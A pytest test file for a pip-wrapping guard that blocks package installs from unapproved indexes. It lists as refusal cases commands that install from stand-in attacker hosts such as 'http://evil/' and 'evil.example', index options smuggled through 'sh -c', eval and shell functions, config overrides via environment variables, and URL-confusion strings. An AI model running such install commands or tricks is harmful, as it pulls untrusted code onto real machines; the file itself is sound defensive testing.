"""The guard's readers on their own: launchers, requirement-file decoding, direct refs."""

from __future__ import annotations

import codecs
from pathlib import Path

import pytest

from pipwrap.errors import RefusedError
from pipwrap.guard import reqfile
from pipwrap.guard.api import check

INDEX = "http://127.0.0.1:9/simple/"
ENV = {"PATH": "/usr/bin:/bin"}


def _refused(argv: list[str], **kwargs: str) -> str | None:
    try:
        check(argv, {**ENV, **kwargs}, index_url=INDEX)
    except RefusedError as exc:
        return str(exc)
    return None


@pytest.mark.parametrize("argv", [
    ["pip", "install", "--extra", "http://evil/", "foo"],
    ["pip", "--isol", "install", "foo"],
    ["pip", "-qiHTTP://evil", "install", "foo"],
    ["pip", "install", "--pypi-url", "http://evil/", "foo"],
    ["python3.12", "-Impip", "install", "-f", "/tmp", "foo"],
    ["py", "-3.12", "-m", "pip", "install", "--trusted-host", "evil", "foo"],
    ["env", "-i", "PATH=/bin", "pip", "install", "-i", "http://evil/", "foo"],
    ["env", "PIP_EXTRA_INDEX_URL=http://evil/", "pip", "install", "foo"],
    ["sudo", "-u", "root", "-E", "pip3", "install", "--extra-index-url=http://e/", "x"],
    ["sudo", "pip", "install", "foo"],
    ["env", "-i", "pip", "install", "foo"],
    ["env", "-", "python", "-m", "pip", "install", "foo"],
    ["env", "-u", "PIP_INDEX_URL", "pip", "install", "foo"],
    ["env", "--unset=NETRC", "pip", "install", "foo"],
    ["env", "PIP_CONFIG_FILE=/tmp/evil.conf", "pip", "install", "foo"],
    ["env", "UV_CONFIG_FILE=/tmp/evil.toml", "uv", "pip", "install", "foo"],
    ["sh", "-c", "export PIP_CONSTRAINT=/tmp/c.txt; pip install foo"],
    ["sh", "-c", 'pip install "$0"', "--extra-index-url=http://evil/"],
    ["bash", "-c", "pip install $@", "x", "--extra-index-url=http://evil/"],
    ["bash", "-c", "pip install ${1}", "x", "-ihttp://evil/"],
    ["doas", "-u", "root", "pip", "install", "-ihttp://evil/", "x"],
    ["xargs", "pip", "install"],
    ["sh", "-c", "pip install --extra-index-url http://evil/ foo"],
    ["bash", "-lc", "true; pip install -i http://evil/ foo"],
    ["bash", "-O", "extglob", "-c", "pip install -r /dev/stdin"],
    ["sh", "-c", "$(echo pip) install foo"],
    ["eval", "pip install -f /tmp foo"],
    ["python", "-m", "pip._internal.cli.main", "install", "--find-links", "/", "x"],
    ["python", "-c", "import subprocess; subprocess.run(['pip','install','--index-url','x'])"],
    ["uv", "pip", "install", "--extra-index-url", "http://evil/", "foo"],
    ["mytool", "--extra-index-url", "http://evil/"],
    ["pip", "install", "git+https://evil.example/foo"],
    ["pip", "install", "https://evil.example/foo-9.9.9-py3-none-any.whl"],
    ["pip", "install", "-e", "git+https://evil.example/foo#egg=foo"],
    ["pip", "download", "foo @ https://evil.example/foo.whl"],
    ["pip", "install", "--frobnicate", "foo"],
    ["pip", "instal", "--index-url", "http://evil/", "foo"],
])
def test_refused(argv: list[str]) -> None:
    assert _refused(argv) is not None


@pytest.mark.parametrize("argv", [
    ["pip", "install", "foo", "-U", "--pre"],
    ["pip", "list", "--outdated", "--extra-index-url", "http://e/"],
    ["pip", "install", f"foo @ {INDEX.replace('/simple/', '/packages/')}foo-1.0.whl"],
    ["pip", "install", "--index-url", INDEX, "foo"],
    ["pip", "install", "./local/dir", "file:///tmp/x.whl"],
    ["python", "-m", "venv", "x"],
    ["env", "FOO=1", "nice", "-n", "5", "pip", "install", "foo"],
    ["sh", "-c", "pip install foo && echo done"],
    ["bash", "-c", 'pip install "$1"', "x", "foo"],
    ["make", "install"],
    ["sudo", "make", "install"],
    ["env", "PIP_TIMEOUT=60", "pip", "install", "foo"],
    ["pip", "install", "--no-index", "foo"],
])
def test_passed(argv: list[str]) -> None:
    assert _refused(argv) is None


def test_function_body_is_read_with_the_calls_arguments() -> None:
    bash = "_p () \n{ \n    pip \"$@\"\n}"
    fish = "# Defined via `source`\nfunction _p --wraps=pip --description 'alias _p pip'\n" \
           "  pip  $argv\n        \nend"
    for body in (bash, fish):
        with pytest.raises(RefusedError):
            check(["_p", "install", "--extra", "http://evil/", "x"], ENV, index_url=INDEX,
                  function_body=body)
        check(["_p", "install", "x"], ENV, index_url=INDEX, function_body=body)
    inner = "f () { pip install --extra-index-url http://evil/ \"$@\"; }"
    with pytest.raises(RefusedError):
        check(["f", "x"], ENV, index_url=INDEX, function_body=inner)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32",
                                      "utf-32-be"])
def test_every_decoding_pip_could_choose_is_scanned(tmp_path: Path, encoding: str) -> None:
    text = "foo\n--extra-index-url http://evil/\n"
    data = text.encode(encoding)
    if encoding in ("utf-16-le", "utf-32-be"):
        bom = codecs.BOM_UTF16_LE if encoding == "utf-16-le" else codecs.BOM_UTF32_BE
        data = bom + data
    assert any("--extra-index-url" in t for t in reqfile.decodings(data))
    (tmp_path / "r.txt").write_bytes(data)
    refusal = _refused(["pip", "install", "-r", str(tmp_path / "r.txt")])
    assert refusal is not None and "r.txt:2" in refusal


def test_undecodable_requirement_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "r.txt").write_bytes(b"# -*- coding: no-such-codec -*-\nfoo\n")
    assert "cannot be decoded" in (_refused(["pip", "install", "-r", str(tmp_path / "r.txt")])
                                   or "")


def test_nested_and_cyclic_includes(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("-r b.txt\nfoo\n")
    (tmp_path / "b.txt").write_text("-r a.txt\n-c sub/c.txt\n")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub/c.txt").write_text("--find-links=/tmp\n")
    refusal = _refused(["pip", "install", "-r", str(tmp_path / "a.txt")])
    assert refusal is not None and "c.txt:1" in refusal


def test_scrubbed_spellings_and_kept_variables() -> None:
    from pipwrap.guard import scrub

    environ = {"PIP_PYPI_URL": "x", "PIP___EXTRA_INDEX_URL": "x", "PIP_Find_Links": "x",
               "PIP_ISOLATED": "1", "PIP_FROBNICATE": "x", "PIP_TIMEOUT": "5",
               "PIP_CONFIG_FILE": "/x", "PIP_CONSTRAINT": "c.txt", "UV_INDEX": "x",
               "UV_CONFIG_FILE": "x", "UV_CACHE_DIR": "/c", "PIPX_HOME": "/p",
               "PDM_PYPI_URL": "x", "PDM_PYPI_EXTRA_URL": "x", "PDM_HOME": "/h"}
    assert scrub.unset_names(environ) == sorted(
        ["PIP_PYPI_URL", "PIP___EXTRA_INDEX_URL", "PIP_Find_Links", "PIP_ISOLATED",
         "PIP_FROBNICATE", "UV_INDEX", "UV_CONFIG_FILE", "PDM_PYPI_URL", "PDM_PYPI_EXTRA_URL"])


@pytest.mark.parametrize("password", ["p@ss", "pa:ss", "p/ss", "p#ss", "p%40ss", "p@s:s/#%"])
def test_masking_holds_for_passwords_with_url_characters(password: str) -> None:
    from pipwrap.redact import redact

    shown = redact(f"refused: https://bob:{password}@host.example/simple/ and more")
    assert "bob:****@host.example/simple/" in shown
    assert password not in shown


def test_shell_script_files_are_read(tmp_path: Path) -> None:
    script = tmp_path / "install.sh"
    script.write_text("#!/bin/sh\n# pip install foo  (a comment)\necho 'multi\nline'\n"
                      "pip install --extra-index-url http://evil/ \"$@\"\n")
    script.chmod(0o755)
    for argv in ([str(script), "foo"], ["sh", str(script)], ["bash", "-e", str(script)],
                 ["bash", "-O", "extglob", str(script)], ["bash", str(script), "-c", "x"]):
        refusal = _refused(argv)
        assert refusal is not None and f"refused: {script}" in refusal, argv
    script.write_text("#!/bin/sh\npip install \"$@\"  # --extra-index-url in a comment\n")
    assert _refused([str(script), "foo"]) is None


def test_the_profiles_own_index_is_recognised_without_its_login(tmp_path: Path) -> None:
    """pip-compile writes the index without the login (it lives in the netrc)."""
    (tmp_path / "r.txt").write_text("--index-url https://pkgs.example/simple\nfoo\n")
    argv = ["pip", "install", "-r", str(tmp_path / "r.txt")]
    check(argv, ENV, index_url="https://alice:s3cret@pkgs.example/simple/")
    with pytest.raises(RefusedError):
        check(argv, ENV, index_url="https://other.example/simple/")


@pytest.mark.parametrize("url", [
    "http://127.0.0.1:8\\simple\\@127.0.0.1:9/simple/",  # uv: host 127.0.0.1:8
    "http://127.0.0.1:8\\@127.0.0.1:9/simple/",
    "http://127.0.0.1:9/simple/\x00",
    "http://127.0.0.1:9/sim ple/",
    "http://127.0.0.1:9/simple/\n",
    "http://x\uff20127.0.0.1:9/simple/",  # a full-width @: IDNA maps it, urlsplit does not
    "http://[::1/simple/",
    "http://127.0.0.1:99999999/simple/",
])
def test_urls_a_whatwg_parser_reads_otherwise_are_never_the_profiles(url: str) -> None:
    from pipwrap.guard.context import Context

    ctx = Context(ENV, "/", INDEX)
    assert not ctx.under_index(url) and not ctx.is_profile_index(url)
    with pytest.raises(RefusedError, match="not a URL every tool reads alike"):
        ctx.check_url(url, "here")
